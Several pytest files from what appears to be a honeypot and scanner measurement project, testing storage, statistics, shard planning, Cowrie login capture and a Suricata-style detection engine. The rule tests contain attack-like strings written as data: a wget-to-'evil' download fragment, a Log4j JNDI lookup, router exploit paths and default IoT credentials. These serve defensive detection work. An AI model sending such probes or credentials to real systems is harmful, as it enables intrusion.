        assert cli_main(["lint", str(tmp_path), "--baseline", str(bad)]) == 2
        assert "unreadable baseline" in capsys.readouterr().err

    def test_json_report_schema(self, tmp_path, capsys):
        code, rel_path, source = FIXTURES[0]
        build_tree(tmp_path, {rel_path: source})
        assert cli_main(
            ["lint", str(tmp_path), "--format", "json", "--no-baseline"]
        ) == 1
        payload = json.loads(capsys.readouterr().out)
        assert set(payload) == {
            "version", "files_scanned", "suppressed", "findings",
            "baselined", "unused_baseline", "summary",
        }
        assert payload["version"] == 1
        assert payload["summary"] == {code: 1}
        (finding,) = payload["findings"]
        assert set(finding) == {"code", "path", "line", "col",
                                "message", "snippet"}
        assert finding["code"] == code

    def test_update_baseline_then_clean(self, tmp_path, capsys):
        code, rel_path, source = FIXTURES[2]
        build_tree(tmp_path / "pkg", {rel_path: source})
        baseline = tmp_path / "base.json"
        assert cli_main(["lint", str(tmp_path / "pkg"),
                         "--baseline", str(baseline),
                         "--update-baseline"]) == 0
        assert cli_main(["lint", str(tmp_path / "pkg"),
                         "--baseline", str(baseline)]) == 0
        out = capsys.readouterr().out
        assert "1 baselined" in out


class TestCatalog:
    def test_every_fixture_code_has_a_registered_rule(self):
        codes = {rule["code"] for rule in rule_catalog()}
        assert {fixture[0] for fixture in FIXTURES} <= codes

    def test_every_rule_names_invariant_and_dynamic_check(self):
        for rule in rule_catalog():
            assert rule["invariant"], rule["code"]
            assert rule["dynamic_check"], rule["code"]

    def test_rules_flag_prints_catalog(self, capsys):
        assert cli_main(["lint", "--rules"]) == 0
        out = capsys.readouterr().out
        for rule in rule_catalog():
            assert rule["code"] in out

    def test_readme_documents_every_rule_code(self):
        readme = (REPO_ROOT / "README.md").read_text(encoding="utf-8")
        for rule in rule_catalog():
            assert rule["code"] in readme, (
                f"README.md lacks a row for lint rule {rule['code']}"
            )
