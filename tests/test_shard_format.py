"""Round-trip and verification tests for the on-disk shard format."""

from __future__ import annotations

import json

import numpy as np
import pytest

from repro.honeypots.telescope import TelescopeCapture
from repro.io.shards import (
    SHARD_FORMAT,
    load_shard_tables,
    merge_telescope_shard,
    read_manifest,
    shard_dir_name,
    verify_shard,
    write_shard,
)
from repro.io.table import EventTable
from repro.net.packets import Transport
from repro.sim.events import CapturedEvent, NetworkKind


def _sample_table(vantage_id: str = "hp-1") -> EventTable:
    table = EventTable(vantage_id, "aws", NetworkKind.CLOUD, "US-East")
    table.append_event(CapturedEvent(
        vantage_id, "aws", NetworkKind.CLOUD, "US-East",
        1.25, 10, 100, 20, 22, Transport.TCP, True,
        b"SSH-2.0-Go", (("root", "root"), ("admin", "1234")), ("uname -a",),
    ))
    table.append_batch(
        timestamps=np.asarray([2.0, 3.5, 3.5]),
        src_ips=np.asarray([11, 12, 11], dtype=np.int64),
        src_asns=np.asarray([100, 100, 100], dtype=np.int64),
        dst_ips=np.asarray([20, 21, 20], dtype=np.int64),
        dst_port=80,
        transport=Transport.TCP,
        handshake=True,
        payloads=b"GET / HTTP/1.1\r\n\r\n",
    )
    return table


def _manifest_extra(**overrides) -> dict:
    extra = {
        "config": {"year": 2021, "scale": 0.1, "telescope_slash24s": 4, "seed": 5},
        "config_digest": "digest-a",
        "shard_index": 0,
        "num_shards": 2,
        "spec_range": [0, 7],
        "rng_streams": ["scan/s1/22"],
    }
    extra.update(overrides)
    return extra


class TestRoundTrip:
    def test_tables_roundtrip_exactly(self, tmp_path):
        tables = {"hp-1": _sample_table("hp-1"), "hp-2": _sample_table("hp-2")}
        write_shard(tmp_path / shard_dir_name(0), tables, None, _manifest_extra())
        loaded = load_shard_tables(tmp_path / shard_dir_name(0))
        assert set(loaded) == {"hp-1", "hp-2"}
        for vantage_id, table in tables.items():
            restored = loaded[vantage_id]
            assert restored.materialize() == table.materialize()
            np.testing.assert_array_equal(restored.timestamps, table.timestamps)
            assert list(restored.payloads) == list(table.payloads)
            assert list(restored.credentials) == list(table.credentials)
            assert list(restored.commands) == list(table.commands)
            # Object values must come back as the capture-pipeline shapes.
            assert isinstance(restored.payloads[0], bytes)
            assert restored.credentials[0] == (("root", "root"), ("admin", "1234"))
            assert restored.commands[0] == ("uname -a",)

    def test_empty_tables_are_skipped_but_counted(self, tmp_path):
        tables = {
            "hp-1": _sample_table("hp-1"),
            "hp-empty": EventTable("hp-empty", "aws", NetworkKind.CLOUD, "US-East"),
        }
        manifest = write_shard(
            tmp_path / shard_dir_name(1), tables, None, _manifest_extra(shard_index=1)
        )
        assert manifest["events"]["per_vantage"] == {"hp-1": 4}
        assert manifest["events"]["total"] == 4
        loaded = load_shard_tables(tmp_path / shard_dir_name(1))
        assert "hp-empty" not in loaded

    def test_telescope_aggregate_merges_back(self, tmp_path):
        from repro.honeypots.base import VantagePoint
        from repro.honeypots.telescope import TelescopeStack

        vantage = VantagePoint(
            "orion", "orion", NetworkKind.TELESCOPE, "US-EAST", "NA",
            np.arange(8, dtype=np.uint32) + 1, TelescopeStack(),
        )
        telescope = TelescopeCapture(vantage)
        telescope.record_source_hits(
            23, np.asarray([7, 9]), np.asarray([100, 200]), np.asarray([3, 1])
        )
        telescope.record_destination_sources(23, np.ones(8, dtype=np.int64))
        write_shard(tmp_path / shard_dir_name(0), {}, telescope, _manifest_extra())

        merged = TelescopeCapture(vantage)
        merge_telescope_shard(merged, tmp_path / shard_dir_name(0))
        merge_telescope_shard(merged, tmp_path / shard_dir_name(0))  # additive
        assert merged.port_src_hits[23] == {7: 6, 9: 2}
        assert merged.asn_of_src == {7: 100, 9: 200}
        np.testing.assert_array_equal(
            merged.unique_sources_per_destination(23), np.full(8, 2)
        )


class TestVerification:
    def _write(self, tmp_path):
        directory = tmp_path / shard_dir_name(0)
        write_shard(directory, {"hp-1": _sample_table()}, None, _manifest_extra())
        return directory

    def test_complete_shard_verifies(self, tmp_path):
        directory = self._write(tmp_path)
        assert verify_shard(directory, "digest-a", 0, 2, (0, 7))

    def test_missing_manifest_fails(self, tmp_path):
        directory = self._write(tmp_path)
        (directory / "manifest.json").unlink()
        assert read_manifest(directory) is None
        assert not verify_shard(directory, "digest-a", 0, 2, (0, 7))

    def test_wrong_run_plan_fails(self, tmp_path):
        directory = self._write(tmp_path)
        assert not verify_shard(directory, "digest-B", 0, 2, (0, 7))
        assert not verify_shard(directory, "digest-a", 1, 2, (0, 7))
        assert not verify_shard(directory, "digest-a", 0, 4, (0, 7))
        assert not verify_shard(directory, "digest-a", 0, 2, (0, 9))

    def test_corrupted_data_file_fails(self, tmp_path):
        directory = self._write(tmp_path)
        with open(directory / "columns.npz", "ab") as handle:
            handle.write(b"corruption")
        assert not verify_shard(directory, "digest-a", 0, 2, (0, 7))
        # ... unless data checking is explicitly waived.
        assert verify_shard(directory, "digest-a", 0, 2, (0, 7), check_data=False)

    def test_manifest_format_is_stamped(self, tmp_path):
        directory = self._write(tmp_path)
        manifest = json.loads((directory / "manifest.json").read_text())
        assert manifest["format"] == SHARD_FORMAT
        assert set(manifest["files"]) == {"columns.npz", "objects.ndjson"}
        assert manifest["rng_streams"] == ["scan/s1/22"]

    def test_unsupported_format_rejected_on_load(self, tmp_path):
        directory = self._write(tmp_path)
        lines = (directory / "objects.ndjson").read_text().splitlines()
        lines[0] = json.dumps({"format": "something-else/9"})
        (directory / "objects.ndjson").write_text("\n".join(lines) + "\n")
        with pytest.raises(ValueError, match="unsupported shard format"):
            load_shard_tables(directory)
