"""Tests for dataset serialization and report rendering."""

import numpy as np
import pytest
from hypothesis import given, settings, strategies as st

from repro.io.records import (
    DatasetWriter,
    event_to_record,
    read_events,
    record_to_event,
    write_events,
)
from repro.net.packets import Transport
from repro.reporting.tables import ascii_plot, pct_cell, phi_cell, render_table
from repro.sim.events import CapturedEvent, NetworkKind
from repro.stats.contingency import EffectMagnitude


def make_event(**overrides):
    base = dict(
        vantage_id="gn-aws-US-CA-0", network="aws", network_kind=NetworkKind.CLOUD,
        region="US-CA", timestamp=12.5, src_ip=123456, src_asn=4134,
        dst_ip=654321, dst_port=22, transport=Transport.TCP, handshake=True,
        payload=b"SSH-2.0-Go\r\n", credentials=(("root", "123456"),),
    )
    base.update(overrides)
    return CapturedEvent(**base)


events_strategy = st.builds(
    make_event,
    timestamp=st.floats(min_value=0, max_value=168, allow_nan=False),
    src_ip=st.integers(min_value=0, max_value=(1 << 32) - 1),
    dst_port=st.integers(min_value=0, max_value=65535),
    payload=st.binary(max_size=64),
    handshake=st.booleans(),
    credentials=st.lists(
        st.tuples(st.text(max_size=8), st.text(max_size=8)), max_size=3
    ).map(tuple),
    network_kind=st.sampled_from(list(NetworkKind)),
)


class TestRecordConversion:
    def test_round_trip_basic(self):
        event = make_event()
        assert record_to_event(event_to_record(event)) == event

    def test_empty_payload(self):
        event = make_event(payload=b"", credentials=())
        record = event_to_record(event)
        assert record["payload"] == ""
        assert record_to_event(record) == event

    def test_binary_payload_base64(self):
        event = make_event(payload=bytes(range(256)))
        assert record_to_event(event_to_record(event)).payload == bytes(range(256))

    @given(events_strategy)
    @settings(max_examples=50)
    def test_round_trip_property(self, event):
        restored = record_to_event(event_to_record(event))
        assert restored.payload == event.payload
        assert restored.credentials == event.credentials
        assert restored.timestamp == pytest.approx(event.timestamp, abs=1e-6)


class TestFiles:
    def test_write_read_round_trip(self, tmp_path):
        events = [make_event(src_ip=i) for i in range(20)]
        path = tmp_path / "events.ndjson"
        assert write_events(path, events) == 20
        restored = list(read_events(path))
        assert restored == events

    def test_gzip_round_trip(self, tmp_path):
        events = [make_event(src_ip=i) for i in range(5)]
        path = tmp_path / "events.ndjson.gz"
        write_events(path, events)
        assert list(read_events(path)) == events

    def test_bad_format_rejected(self, tmp_path):
        path = tmp_path / "bad.ndjson"
        path.write_text('{"format": "other/9"}\n')
        with pytest.raises(ValueError):
            list(read_events(path))

    def test_empty_file(self, tmp_path):
        path = tmp_path / "empty.ndjson"
        path.write_text("")
        assert list(read_events(path)) == []

    def test_dataset_writer_incremental(self, tmp_path):
        path = tmp_path / "incr.ndjson"
        with DatasetWriter(path) as writer:
            writer.write(make_event(src_ip=1))
            writer.write(make_event(src_ip=2))
            assert writer.count == 2
        assert [event.src_ip for event in read_events(path)] == [1, 2]


class TestRenderTable:
    def test_basic(self):
        text = render_table(["A", "Blong"], [["1", "2"], ["333", "4"]], title="T")
        lines = text.splitlines()
        assert lines[0] == "T"
        assert "| A   | Blong |" in text
        assert "| 333 | 4     |" in text

    def test_row_width_mismatch(self):
        with pytest.raises(ValueError):
            render_table(["A"], [["1", "2"]])

    def test_non_string_cells(self):
        text = render_table(["n"], [[42]])
        assert "42" in text


class TestCells:
    def test_phi_cell(self):
        assert phi_cell(0.0) == "-"
        assert phi_cell(0.31) == "0.31"
        assert phi_cell(0.31, EffectMagnitude.LARGE) == "0.31 [large]"

    def test_pct_cell(self):
        assert pct_cell(None) == "x"
        assert pct_cell(12.345) == "12%"
        assert pct_cell(12.345, 1) == "12.3%"


class TestAsciiPlot:
    def test_empty(self):
        assert "(empty series)" in ascii_plot(np.array([]), title="x")

    def test_dimensions(self):
        text = ascii_plot(np.linspace(0, 10, 2000), width=40, height=6)
        plot_lines = [line for line in text.splitlines() if "█" in line or "│" in line]
        assert len(plot_lines) <= 6
        assert max(len(line) for line in plot_lines) <= 40

    def test_contains_extremes(self):
        text = ascii_plot(np.asarray([1.0, 9.0, 3.0]), title="t")
        assert "max=9.0" in text and "min=1.0" in text

    def test_constant_series(self):
        text = ascii_plot(np.full(100, 5.0))
        assert "max=5.0" in text
