"""Tests for the Suricata-style rule DSL and matching engine."""

import pytest
from hypothesis import given, strategies as st

from repro.detection.engine import RuleEngine, load_default_rules
from repro.detection.rules import (
    ALLOWED_CLASSTYPES,
    Rule,
    RuleParseError,
    parse_rule,
    parse_rules,
)
from repro.scanners.payloads import HTTP_CORPUS


BASIC = (
    'alert http any any -> any any (msg:"test rule"; content:"/GponForm/"; '
    "classtype:web-application-attack; sid:1;)"
)


class TestParser:
    def test_basic_rule(self):
        rule = parse_rule(BASIC)
        assert rule.msg == "test rule"
        assert rule.sid == 1
        assert rule.classtype == "web-application-attack"
        assert rule.dst_ports is None
        assert len(rule.contents) == 1

    def test_port_list(self):
        rule = parse_rule(BASIC.replace("-> any any", "-> any [80,8080]"))
        assert rule.dst_ports == frozenset({80, 8080})

    def test_port_range(self):
        rule = parse_rule(BASIC.replace("-> any any", "-> any 8000:8003"))
        assert rule.dst_ports == frozenset({8000, 8001, 8002, 8003})

    def test_nocase_modifier(self):
        rule = parse_rule(
            'alert http any any -> any any (msg:"m"; content:"JNDI"; nocase; '
            "classtype:attempted-admin; sid:2;)"
        )
        assert rule.contents[0].nocase
        assert rule.matches(b"x ${jndi:ldap} y")

    def test_hex_content(self):
        rule = parse_rule(
            'alert tcp any any -> any any (msg:"smb"; content:"|ff 53 4d 42|"; '
            "classtype:misc-activity; sid:3;)"
        )
        assert rule.contents[0].needle == b"\xffSMB"
        assert rule.matches(b"\x00\x00\xffSMB\x72")

    def test_semicolon_inside_quotes(self):
        rule = parse_rule(
            'alert http any any -> any any (msg:"a;b"; content:"x;y"; '
            "classtype:misc-activity; sid:4;)"
        )
        assert rule.msg == "a;b"
        assert rule.contents[0].needle == b"x;y"

    def test_pcre(self):
        rule = parse_rule(
            'alert tcp any any -> any any (msg:"p"; pcre:"/wget\\s+http/i"; '
            "classtype:bad-unknown; sid:5;)"
        )
        assert rule.matches(b"; WGET  http://evil/")
        assert not rule.matches(b"wgethttp")

    def test_multiple_contents_all_required(self):
        rule = parse_rule(
            'alert http any any -> any any (msg:"m"; content:"aaa"; content:"bbb"; '
            "classtype:misc-activity; sid:6;)"
        )
        assert rule.matches(b"bbb...aaa")
        assert not rule.matches(b"aaa only")

    @pytest.mark.parametrize(
        "bad",
        [
            "not a rule",
            'alert http any any -> any any (content:"x"; classtype:misc-activity; sid:7;)',
            'alert http any any -> any any (msg:"m"; content:"x"; classtype:misc-activity;)',
            'alert http any any -> any any (msg:"m"; content:"x"; classtype:not-a-type; sid:8;)',
            'alert http any any -> any any (msg:"m"; pcre:"broken"; classtype:misc-activity; sid:9;)',
        ],
    )
    def test_rejects_malformed(self, bad):
        with pytest.raises(RuleParseError):
            parse_rule(bad)

    def test_parse_rules_skips_comments(self):
        text = "# comment\n\n" + BASIC + "\n"
        assert len(parse_rules(text)) == 1

    def test_parse_rules_rejects_duplicate_sids(self):
        with pytest.raises(RuleParseError):
            parse_rules(BASIC + "\n" + BASIC)

    def test_unknown_options_tolerated(self):
        rule = parse_rule(
            'alert http any any -> any any (msg:"m"; flow:established,to_server; '
            'content:"x"; depth:10; classtype:misc-activity; sid:10;)'
        )
        assert rule.matches(b"...x...")


class TestRuleMatching:
    def test_empty_payload_never_matches(self):
        rule = parse_rule(BASIC)
        assert not rule.matches(b"")

    def test_port_filter(self):
        rule = parse_rule(BASIC.replace("-> any any", "-> any 80"))
        assert rule.matches(b"/GponForm/", dst_port=80)
        assert not rule.matches(b"/GponForm/", dst_port=8080)
        assert rule.matches(b"/GponForm/")  # no port given -> no filter

    def test_contentless_rule_never_matches(self):
        rule = Rule(
            action="alert", protocol="tcp", dst_ports=None, msg="m",
            classtype="misc-activity", sid=1,
        )
        assert not rule.matches(b"anything")

    @given(st.binary(min_size=0, max_size=256))
    def test_match_implies_all_contents_present(self, payload):
        """Soundness: an alert means every content string is in the payload."""
        for rule in load_default_rules():
            if rule.pcres:
                continue
            if rule.matches(payload):
                for content in rule.contents:
                    needle = content.needle.lower() if content.nocase else content.needle
                    haystack = payload.lower() if content.nocase else payload
                    assert needle in haystack


class TestDefaultRuleset:
    def test_loads_and_is_vetted(self):
        rules = load_default_rules()
        assert len(rules) >= 15
        assert all(rule.classtype in ALLOWED_CLASSTYPES for rule in rules)

    def test_sids_unique(self):
        sids = [rule.sid for rule in load_default_rules()]
        assert len(sids) == len(set(sids))

    def test_corpus_ground_truth_agreement(self):
        """The ruleset reproduces the corpus labels without reading them."""
        engine = RuleEngine()
        for entry in HTTP_CORPUS:
            assert engine.is_malicious(entry.render()) == entry.malicious, entry.name


class TestRuleEngine:
    def test_alerts_carry_metadata(self):
        engine = RuleEngine()
        alerts = engine.alerts(b"GET / HTTP/1.1\r\nUA: ${jndi:ldap://x}\r\n\r\n")
        assert any("log4j" in alert.msg.lower() for alert in alerts)
        assert all(alert.classtype in ALLOWED_CLASSTYPES for alert in alerts)

    def test_verdicts_memoized(self):
        engine = RuleEngine()
        payload = b"GET /.env HTTP/1.1\r\n\r\n"
        first = engine.alerts(payload)
        second = engine.alerts(payload)
        assert first is second  # cached object identity

    def test_empty_payload(self):
        assert RuleEngine().alerts(b"") == ()

    def test_custom_ruleset(self):
        engine = RuleEngine([parse_rule(BASIC)])
        assert engine.is_malicious(b"POST /GponForm/diag HTTP/1.1")
        assert not engine.is_malicious(b"GET / HTTP/1.1")
