"""Tests for the statistical methodology (chi-squared, top-k, volumes)."""

from collections import Counter

import numpy as np
import pytest
from hypothesis import given, settings, strategies as st

from repro.stats.comparisons import bonferroni_alpha, compare_fractions, compare_top_k
from repro.stats.contingency import (
    ChiSquareResult,
    EffectMagnitude,
    chi_square_test,
    cramers_v_magnitude,
)
from repro.stats.topk import median_counter, top_k, top_k_union, union_table
from repro.stats.volume import (
    compare_volumes,
    count_spikes,
    fold_increase,
    hourly_volumes,
    kolmogorov_smirnov,
    mann_whitney_greater,
)


class TestChiSquare:
    def test_identical_distributions_not_significant(self):
        table = [[50, 30, 20], [50, 30, 20]]
        result = chi_square_test(table)
        assert result.valid
        assert result.p_value > 0.9
        assert not result.significant()

    def test_disjoint_distributions_significant(self):
        table = [[100, 0, 0], [0, 100, 0]]
        result = chi_square_test(table)
        assert result.significant()
        assert result.phi > 0.9

    def test_phi_bounded(self):
        table = [[1000, 0], [0, 1000]]
        result = chi_square_test(table)
        assert 0.0 <= result.phi <= 1.0

    def test_degenerate_tables_invalid(self):
        assert not chi_square_test([[1, 2, 3]]).valid  # one row
        assert not chi_square_test([[1], [2]]).valid  # one column
        assert not chi_square_test([[0, 0], [0, 0]]).valid  # empty

    def test_zero_margins_trimmed(self):
        """A category nobody hit must not poison the test."""
        with_zeros = chi_square_test([[50, 30, 0], [40, 35, 0]])
        without = chi_square_test([[50, 30], [40, 35]])
        assert with_zeros.valid
        assert with_zeros.statistic == pytest.approx(without.statistic)

    def test_rejects_non_2d(self):
        with pytest.raises(ValueError):
            chi_square_test([1, 2, 3])

    def test_known_value(self):
        """Cross-checked against scipy's documented example."""
        result = chi_square_test([[10, 10, 20], [20, 20, 20]])
        assert result.statistic == pytest.approx(2.7777777, rel=1e-5)
        assert result.dof == 2

    def test_bonferroni_significance(self):
        result = ChiSquareResult(
            statistic=10.0, p_value=0.01, dof=1, phi=0.3, df_min=1, sample_size=100
        )
        assert result.significant(alpha=0.05, num_comparisons=1)
        assert not result.significant(alpha=0.05, num_comparisons=10)

    def test_invalid_comparisons_count(self):
        result = chi_square_test([[5, 5], [5, 5]])
        with pytest.raises(ValueError):
            result.significant(num_comparisons=0)

    @given(
        st.lists(
            st.lists(st.integers(min_value=0, max_value=500), min_size=3, max_size=3),
            min_size=2,
            max_size=6,
        )
    )
    @settings(max_examples=60)
    def test_result_invariants(self, rows):
        result = chi_square_test(rows)
        if result.valid:
            assert result.statistic >= 0
            assert 0 <= result.p_value <= 1
            assert 0 <= result.phi <= 1

    @given(
        st.lists(
            st.lists(st.integers(min_value=0, max_value=500), min_size=3, max_size=3),
            min_size=2,
            max_size=5,
        )
    )
    @settings(max_examples=40)
    def test_row_permutation_invariance(self, rows):
        forward = chi_square_test(rows)
        backward = chi_square_test(rows[::-1])
        assert forward.valid == backward.valid
        if forward.valid:
            assert forward.statistic == pytest.approx(backward.statistic)
            assert forward.phi == pytest.approx(backward.phi)


class TestMagnitude:
    def test_df_awareness(self):
        """The same phi is a bigger effect at higher dof (Cohen's w)."""
        assert cramers_v_magnitude(0.3, 1) is EffectMagnitude.MEDIUM
        assert cramers_v_magnitude(0.3, 4) is EffectMagnitude.LARGE

    def test_thresholds_at_df1(self):
        assert cramers_v_magnitude(0.05, 1) is EffectMagnitude.NONE
        assert cramers_v_magnitude(0.15, 1) is EffectMagnitude.SMALL
        assert cramers_v_magnitude(0.35, 1) is EffectMagnitude.MEDIUM
        assert cramers_v_magnitude(0.6, 1) is EffectMagnitude.LARGE

    def test_invalid_df(self):
        assert cramers_v_magnitude(0.5, 0) is EffectMagnitude.NONE


class TestTopK:
    def test_top_k_basic(self):
        counts = Counter(a=5, b=3, c=2, d=1)
        assert top_k(counts, 3) == ["a", "b", "c"]

    def test_top_k_excludes_zeros(self):
        assert top_k(Counter(a=5, b=0), 3) == ["a"]

    def test_top_k_deterministic_ties(self):
        counts = {"x": 2, "y": 2, "z": 2}
        assert top_k(counts, 2) == top_k(dict(reversed(list(counts.items()))), 2)

    def test_top_k_invalid(self):
        with pytest.raises(ValueError):
            top_k(Counter(), 0)

    def test_union(self):
        groups = {"g1": Counter(a=5, b=3), "g2": Counter(c=9, a=1)}
        assert set(top_k_union(groups, 2)) == {"a", "b", "c"}

    def test_union_table_shape_and_restriction(self):
        groups = {
            "g1": Counter(a=5, b=3, tail=100),
            "g2": Counter(a=4, c=9, tail=100),
        }
        table, group_order, categories = union_table(groups, k=2)
        assert table.shape == (2, len(categories))
        # the long tail appears because it is in each group's top-2...
        assert "tail" in categories
        # ...but a category outside everyone's top-k is excluded
        groups["g1"]["rare"] = 1
        _table, _groups, categories = union_table(groups, k=2)
        assert "rare" not in categories

    def test_median_counter(self):
        counters = [Counter(a=1, b=10), Counter(a=3), Counter(a=5, b=2)]
        median = median_counter(counters)
        assert median["a"] == 3
        assert median["b"] == 2  # median of (10, 0, 2)

    def test_median_counter_drops_zero_medians(self):
        counters = [Counter(a=1), Counter(), Counter()]
        assert "a" not in median_counter(counters)

    def test_median_counter_empty(self):
        assert median_counter([]) == Counter()

    @given(
        st.dictionaries(
            st.text(min_size=1, max_size=3),
            st.integers(min_value=1, max_value=100),
            min_size=1,
            max_size=12,
        ),
        st.integers(min_value=1, max_value=5),
    )
    def test_top_k_size_bound(self, counts, k):
        result = top_k(counts, k)
        assert len(result) <= k
        assert len(set(result)) == len(result)


class TestComparisons:
    def test_compare_top_k_distinguishes(self):
        same = compare_top_k({"a": Counter(x=50, y=50), "b": Counter(x=50, y=50)})
        different = compare_top_k({"a": Counter(x=100), "b": Counter(y=100)})
        assert not same.significant()
        assert different.significant()

    def test_compare_fractions(self):
        result = compare_fractions({"a": (90, 100), "b": (10, 100)})
        assert result.significant()
        same = compare_fractions({"a": (50, 100), "b": (50, 100)})
        assert not same.significant()

    def test_compare_fractions_validation(self):
        with pytest.raises(ValueError):
            compare_fractions({"a": (5, 3)})

    def test_bonferroni_alpha(self):
        assert bonferroni_alpha(0.05, 10) == pytest.approx(0.005)
        with pytest.raises(ValueError):
            bonferroni_alpha(0.05, 0)


class TestVolumes:
    def test_hourly_volumes(self):
        volumes = hourly_volumes([0.5, 0.7, 3.2, 167.9], 168)
        assert volumes.sum() == 4
        assert volumes[0] == 2 and volumes[3] == 1 and volumes[167] == 1

    def test_hourly_volume_bounds(self):
        with pytest.raises(ValueError):
            hourly_volumes([], 0)

    def test_fold_increase(self):
        assert fold_increase([10.0] * 10, [2.0] * 10) == pytest.approx(5.0)
        assert fold_increase([1.0], []) == float("inf")
        assert fold_increase([], []) == 1.0
        assert fold_increase([5.0], [0.0]) == float("inf")

    def test_mwu_detects_shift(self):
        rng = np.random.default_rng(0)
        control = rng.poisson(2.0, 168).astype(float)
        leaked = rng.poisson(8.0, 168).astype(float)
        assert mann_whitney_greater(leaked, control) < 0.01
        assert mann_whitney_greater(control, leaked) > 0.5

    def test_mwu_identical_constant_samples(self):
        assert mann_whitney_greater([1.0] * 10, [1.0] * 10) == 1.0

    def test_ks_detects_spikes(self):
        control = np.full(168, 2.0)
        leaked = control.copy()
        leaked[10:50] = 20.0  # repeated discovery spikes across the week
        assert kolmogorov_smirnov(leaked, control) < 0.05

    def test_ks_blind_to_tiny_spike_share(self):
        """A 4-hour spike in a week is below KS resolution at n=168 —
        which is why the paper pairs KS with manual spike verification."""
        control = np.full(168, 2.0)
        leaked = control.copy()
        leaked[10:14] = 80.0
        assert kolmogorov_smirnov(leaked, control) > 0.05
        assert count_spikes(leaked) == 4

    def test_empty_series(self):
        assert mann_whitney_greater([], [1.0]) == 1.0
        assert kolmogorov_smirnov([], [1.0]) == 1.0

    def test_count_spikes(self):
        series = np.full(168, 2.0)
        assert count_spikes(series) == 0  # flat: no spikes
        series[50] = 100.0
        assert count_spikes(series) == 1

    def test_compare_volumes_bundle(self):
        rng = np.random.default_rng(1)
        control = rng.poisson(2.0, 168).astype(float)
        leaked = control + 6.0
        comparison = compare_volumes(leaked, control)
        assert comparison.fold > 2.0
        assert comparison.stochastically_greater()

    @given(st.lists(st.floats(min_value=0, max_value=100), min_size=2, max_size=100))
    def test_spike_count_bounded(self, series):
        assert 0 <= count_spikes(series) <= len(series)
