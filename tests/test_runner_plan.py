"""Tests for the deterministic shard planner and run-config digests."""

from __future__ import annotations

import pytest

from repro.experiments.context import ExperimentConfig
from repro.runner.plan import config_digest, plan_shards, spec_cost
from repro.scanners.population import PopulationConfig, build_population


@pytest.fixture(scope="module")
def population():
    return build_population(PopulationConfig(year=2021, scale=0.1))


@pytest.mark.parametrize("num_shards", [1, 2, 3, 4, 7])
def test_plan_is_a_contiguous_partition(population, num_shards):
    plans = plan_shards(population, num_shards)
    assert len(plans) == num_shards
    cursor = 0
    for index, plan in enumerate(plans):
        assert plan.shard_index == index
        assert plan.num_shards == num_shards
        assert plan.lo == cursor and plan.lo <= plan.hi
        cursor = plan.hi
    assert cursor == len(population)


def test_plan_is_deterministic(population):
    first = plan_shards(population, 4)
    second = plan_shards(population, 4)
    assert first == second


def test_plan_balances_by_cost(population):
    """No shard should dwarf the others under the cost estimate."""
    plans = plan_shards(population, 4)
    loads = [
        sum(spec_cost(spec) for spec in population[plan.lo:plan.hi])
        for plan in plans
    ]
    total = sum(loads)
    assert all(load < 0.6 * total for load in loads)


def test_more_shards_than_specs_yields_empty_shards():
    population = build_population(PopulationConfig(year=2021, scale=0.1))[:3]
    plans = plan_shards(population, 5)
    assert len(plans) == 5
    assert sum(len(plan) for plan in plans) == 3
    assert plans[-1].hi == 3
    assert any(len(plan) == 0 for plan in plans)


def test_single_shard_covers_everything(population):
    (plan,) = plan_shards(population, 1)
    assert (plan.lo, plan.hi) == (0, len(population))


def test_plan_rejects_zero_shards(population):
    with pytest.raises(ValueError):
        plan_shards(population, 0)


def test_config_digest_distinguishes_runs():
    base = ExperimentConfig(year=2021, scale=0.25, telescope_slash24s=8, seed=1234)
    assert config_digest(base, 100) == config_digest(base, 100)
    assert config_digest(base, 100) != config_digest(base, 101)
    for other in (
        ExperimentConfig(year=2020, scale=0.25, telescope_slash24s=8, seed=1234),
        ExperimentConfig(year=2021, scale=0.5, telescope_slash24s=8, seed=1234),
        ExperimentConfig(year=2021, scale=0.25, telescope_slash24s=4, seed=1234),
        ExperimentConfig(year=2021, scale=0.25, telescope_slash24s=8, seed=99),
    ):
        assert config_digest(other, 100) != config_digest(base, 100)
