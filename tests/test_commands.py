"""Tests for post-login shell-command capture (simulated + live)."""

import asyncio

import numpy as np
import pytest

from repro.analysis.commands import classify_command, command_summary
from repro.honeypots.base import VantagePoint
from repro.honeypots.cowrie import CowrieStack
from repro.honeypots.live import LiveHoneypot, ReplayClient, TelnetService
from repro.scanners.base import PortPlan
from repro.sim.events import Credential, NetworkKind, ScanIntent


def cowrie_vantage(stack):
    return VantagePoint(
        vantage_id="gn-aws-US-CA-0", network="aws", kind=NetworkKind.CLOUD,
        region_code="US-CA", continent="NA",
        ips=np.asarray([1000], dtype=np.uint32), stack=stack,
    )


def login_intent(commands=("uname -a",), ts=1.0, src=7):
    return ScanIntent(
        timestamp=ts, src_ip=src, dst_ip=1000, dst_port=23, protocol="telnet",
        payload=b"\xff\xfb\x1f", credentials=(Credential("root", "xc3511"),),
        commands=tuple(commands),
    )


class TestCowrieCommandCapture:
    def test_accepting_stack_records_commands(self):
        stack = CowrieStack(accept_login_probability=1.0)
        event = stack.capture(login_intent(), cowrie_vantage(stack), 4134)
        assert event.commands == ("uname -a",)
        assert event.logged_in

    def test_rejecting_stack_drops_commands(self):
        stack = CowrieStack(accept_login_probability=0.0)
        event = stack.capture(login_intent(), cowrie_vantage(stack), 4134)
        assert event.commands == ()
        assert event.attempted_login and not event.logged_in

    def test_acceptance_deterministic(self):
        stack = CowrieStack(accept_login_probability=0.5)
        intents = [login_intent(ts=float(i), src=100 + i) for i in range(100)]
        first = [bool(stack.capture(i, cowrie_vantage(stack), 1).commands) for i in intents]
        second = [bool(stack.capture(i, cowrie_vantage(stack), 1).commands) for i in intents]
        assert first == second
        assert 0.3 < sum(first) / len(first) < 0.7

    def test_no_commands_without_credentials(self):
        stack = CowrieStack(accept_login_probability=1.0)
        intent = ScanIntent(timestamp=1.0, src_ip=7, dst_ip=1000, dst_port=23,
                            protocol="telnet", payload=b"\xff\xfb\x1f",
                            commands=("uname -a",))
        event = stack.capture(intent, cowrie_vantage(stack), 1)
        assert event.commands == ()

    def test_validation(self):
        with pytest.raises(ValueError):
            CowrieStack(accept_login_probability=1.5)


class TestPortPlanCommands:
    def test_intent_carries_chosen_sequence(self):
        rng = np.random.default_rng(0)
        plan = PortPlan(23, "telnet", 1.0, credential_dialect="mirai",
                        credential_attempts=(2, 2),
                        shell_commands=(("enable", "shell"), ("uname -a",)))
        intents = [plan.build_intent(rng, 1.0, 1, 2) for _ in range(20)]
        sequences = {intent.commands for intent in intents}
        assert sequences <= {("enable", "shell"), ("uname -a",)}
        assert len(sequences) == 2  # both sequences get exercised

